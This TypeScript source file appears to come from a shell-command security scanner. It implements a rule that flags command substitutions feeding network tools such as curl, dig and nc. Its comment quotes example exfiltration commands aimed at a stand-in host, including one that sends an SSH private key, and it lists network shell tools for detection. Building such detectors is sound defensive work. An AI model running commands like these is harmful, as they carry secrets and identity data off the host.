import type { Invocation } from '../scanner/invocation.js';
import type { Finding } from '../scanner/scope.js';
import { finding } from './rule.js';

/**
 * Exfiltration (decision 0021): a command substitution whose output becomes part of a
 * network destination or request (`dig $(whoami).evil.com`, `curl "http://x/$(cat ~/.ssh/id_rsa)"`)
 * sends local data off the host. The substitution itself may be a harmless read; sending its
 * output somewhere is at least caution. Producers that only compute values (dates, sequences,
 * cluster lookups) are not local data.
 */
const NETWORK_PROGRAMS = new Set([
  'curl',
  'wget',
  'http',
  'https',
  'xh',
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'ping',
  'ping6',
  'traceroute',
  'traceroute6',
  'tracepath',
  'mtr',
  'fping',
  'arping',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'ssh',
  'scp',
  'sftp',
  'rsync',
  'whois',
  'nmap',
  'openssl',
]);

/** Programs whose output is a computed value, not data read from the host. */
const VALUE_PRODUCERS = new Set(['date', 'seq', 'expr', 'echo', 'printf', 'kubectl', 'oc', 'dig', 'jq', 'true']);

export function exfiltrationFindings(inv: Invocation): Finding[] {
  if (!NETWORK_PROGRAMS.has(inv.name)) return [];
  for (const word of inv.args) {
    if (!word.hasSubstitution && word.substitutionOrigins.length === 0) continue;
    const bodies = substitutionBodies(word.raw);
    const local = bodies.find((body) => !onlyComputesValues(body));
    if (local === undefined) continue;
    return [
      finding(
        inv,
        'caution',
        'exfil.substitution',
        `Sends the output of $(${local.trim()}) to a network destination; it can carry local files, identity or secrets off the host.`,
        { target: word.value ?? word.raw },
      ),
    ];
  }
  return [];
}

function onlyComputesValues(body: string): boolean {
  const programs = body
    .split(/[|;&]+/)
    .map((part) => part.trim().split(/\s+/)[0] ?? '')
    .filter((p) => p !== '');
  return (
    programs.length > 0 && programs.every((p) => VALUE_PRODUCERS.has(p)) && !/[<>]|\/etc\/|~|\$HOME|\.ssh/.test(body)
  );
}

/** The bodies of `$(…)` and backticks in a word as written (nested parentheses balanced). */
export function substitutionBodies(raw: string): string[] {
  const bodies: string[] = [];
  for (let i = 0; i < raw.length; i++) {
    if (raw[i] === '`') {
      const end = raw.indexOf('`', i + 1);
      if (end < 0) break;
      bodies.push(raw.slice(i + 1, end));
      i = end;
    } else if (raw[i] === '$' && raw[i + 1] === '(' && raw[i + 2] !== '(') {
      let depth = 0;
      let j = i + 1;
      for (; j < raw.length; j++) {
        if (raw[j] === '(') depth++;
        else if (raw[j] === ')' && --depth === 0) break;
      }
      bodies.push(raw.slice(i + 2, j));
      i = j;
    }
  }
  return bodies;
}
